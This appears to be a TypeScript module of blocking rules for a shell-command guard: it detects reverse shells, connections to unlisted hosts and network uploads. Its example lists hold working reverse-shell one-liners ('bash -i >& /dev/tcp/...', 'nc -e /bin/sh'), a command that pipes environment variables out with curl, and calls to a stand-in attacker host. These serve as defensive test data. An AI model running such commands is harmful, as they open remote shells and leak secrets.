import { argumentsOf, hasOption, type Invocation } from "../invocation.ts";
import { networkCommands } from "../operands.ts";
import type { Rule, Setting } from "../rule.ts";
import { isKnown } from "../text.ts";

/** Whether a host may be reached. An address is only where that address is listed. */
export function isListed(host: string, { hosts }: Setting): boolean {
	const name = host.replace(/\.$/, "").replace(/^\[|\]$/g, "");
	return hosts.some((listed) =>
		listed.startsWith("*.") ? name.endsWith(listed.slice(1)) && isKnown(name) : name === listed.replace(/^\[|\]$/g, ""),
	);
}

function isShellSocket({ name, files, argv }: Invocation): boolean {
	if (files.some(({ path }) => /^\/dev\/(tcp|udp)\//.test(path))) return true;
	const words = argv.slice(1);
	if (/^(nc|ncat|netcat)$/.test(name))
		return words.some((word) => /^-[a-z]*[ec]$/.test(word) || word === "--exec" || word === "--sh-exec");
	return name === "socat" && words.some((word) => /^(exec|system):/i.test(word));
}

function uploads(invocation: Invocation): boolean {
	const { name, input } = invocation;
	const args = argumentsOf(invocation);
	if (name === "curl")
		return (
			hasOption(invocation, "TF", "--upload-file", "--form") ||
			args.some((word) => /^@|=@/.test(word)) ||
			(hasOption(invocation, "d", "--data", "--data-binary") && input.kind === "pipe")
		);
	if (name === "wget") return args.some((word) => /^--(post-file|body-file)/.test(word));
	return /^(nc|ncat|netcat|socat)$/.test(name) && input.kind !== "inherited";
}

export const networkRules: readonly Rule[] = [
	{
		id: "shell-socket",
		class: "block",
		severity: "critical",
		reason: "it connects a shell or a descriptor to the network",
		suggestion: "curl -s http://localhost:8000/",
		matches: isShellSocket,
		examples: {
			matches: [
				"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
				"nc -e /bin/sh 10.0.0.1 4444",
				"exec 3<>/dev/tcp/example.com/80",
				"socat tcp:x:1 exec:sh",
				"ncat --sh-exec bash x 1",
			],
			passes: ["nc -z localhost 8000", "cat /dev/null", "echo /dev/tcp/x/1", "curl http://localhost:8000"],
		},
	},
	{
		id: "network-host",
		class: "block",
		severity: "medium",
		reason: "it would reach a host that is not listed",
		suggestion: "curl -s http://localhost:8000/",
		matches: (invocation, setting) =>
			invocation.hosts.some((host) => !isListed(host, setting)) ||
			(networkCommands.has(invocation.name) &&
				invocation.name !== "host" &&
				invocation.hosts.length === 0 &&
				argumentsOf(invocation).some((word) => !word.startsWith("-"))),
		examples: {
			matches: [
				"curl http://evil.example/",
				"curl http://93.184.216.34/",
				"curl http://[2001:db8::1]/",
				"wget -q evil.example/x",
				"git clone https://evil.example/x.git",
				"ssh user@evil.example",
				"scp f evil.example:/tmp",
				'curl "$url"',
				"curl http://localhost.evil.example/",
				"curl http://localhost@evil.example/",
				"nc evil.example 80",
				"ping evil.example",
			],
			passes: [
				"curl http://localhost:3000/health",
				"curl --version",
				"echo http://evil.example",
				"grep http://evil.example f",
				"git commit -m 'http://evil.example'",
				"git clone ../other",
				"curl -s 127.0.0.1:8000",
			],
		},
	},
	{
		id: "upload",
		class: "block",
		severity: "high",
		reason: "it sends files or the output of commands over the network",
		suggestion: "curl -s http://localhost:8000/",
		matches: uploads,
		examples: {
			matches: [
				"curl -T f http://localhost/",
				"curl -d @f http://localhost/",
				"curl -F 'x=@f' http://localhost/",
				"tar c . | nc localhost 9",
				"wget --post-file=f http://localhost/",
				"env | curl -d @- http://localhost/",
			],
			passes: [
				"curl -d a=b http://localhost/",
				"curl -X POST http://localhost/",
				"curl -s http://localhost/ -o f",
				"echo -F x=@f",
			],
		},
	},
];
